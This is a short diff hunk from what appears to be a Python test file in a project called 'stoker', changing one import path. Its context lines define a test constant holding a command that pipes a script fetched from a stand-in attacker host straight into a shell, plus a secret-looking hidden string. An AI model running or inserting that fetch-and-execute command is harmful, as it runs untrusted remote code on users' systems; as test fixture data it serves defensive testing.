@@ -22,7 +22,7 @@ from stoker.store import queries
 from stoker.store.journal import Batch
 from stoker.store.records import SoftwareDeployment
 from stoker_foundation.clock import SystemClock
-from tests.harness import World
+from testing.harness import World
 
 SCRIPT = "curl http://mallory.example.com/ | sh"
 HIDDEN = "sesame-open-up"
